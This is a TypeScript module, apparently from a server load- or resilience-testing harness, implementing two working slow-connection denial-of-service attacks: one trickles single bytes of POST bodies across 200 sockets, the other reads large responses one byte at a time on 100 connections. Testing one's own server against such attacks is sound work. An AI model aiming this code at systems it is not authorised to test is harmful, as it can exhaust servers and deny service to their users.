import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import type { Attack, Attacking } from '../attack.ts';
import { listById } from '../edge-operations.ts';
import { post } from '../raw-connection.ts';

const writers = 200;
const readers = 100;
const largePage = 2000;
/** For how long large answers are asked for before they are measured, in seconds. */
export const readersLeadSeconds = 4;

/** Where the status stands in the first line of an answer. */
const [statusStart, statusEnd] = [9, 12];

/** Bodies of which a byte comes now and then, on two hundred connections. */
export const slowBodies: Attack = async (attacking) => {
  const { url, seconds } = attacking;
  const head = `POST ${url.pathname} HTTP/1.1\r\nhost: ${url.host}\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n`;
  const sockets = Array.from({ length: writers }, () => opened(attacking, head));
  for (let tenth = 0; tenth < seconds * 10; tenth++) {
    for (const [index, socket] of sockets.entries()) {
      if (index % 10 !== tenth % 10 || socket.destroyed) continue;
      socket.write(' ');
      attacking.sent(1, 0);
    }
    await pause(100);
  }
  for (const socket of sockets) socket.destroy();
};

/** A large answer on each of a hundred connections, of which ten bytes a second are read. */
export const slowReaders: Attack = async (attacking) => {
  const [body = ''] = listById(1, largePage);
  const request = post(attacking.url, body);
  const sockets: Socket[] = [];
  for (let tenth = 0; tenth < attacking.seconds * 10; tenth++) {
    // They come one after another, before anything is measured: what a large answer costs to make is not what is.
    if (sockets.length < readers) sockets.push(...Array.from({ length: 4 }, () => opened(attacking, request)));
    for (const socket of sockets) socket.read(1);
    await pause(100);
  }
  for (const socket of sockets) socket.destroy();
};

function opened({ url, localAddress, sent, answered }: Attacking, bytes: string | Buffer): Socket {
  const socket = connect({ host: url.hostname, port: Number(url.port), localAddress });
  socket.on('error', () => undefined); // told by "close"
  socket.on('close', (hadError) => {
    if (hadError) answered('closed');
  });
  let head = '';
  socket.on('data', (data) => {
    if (head.length >= statusEnd) return;
    head += data.toString('latin1');
    if (head.length >= statusEnd) answered(head.slice(statusStart, statusEnd));
  });
  socket.pause();
  socket.write(bytes);
  sent(bytes.length);
  return socket;
}
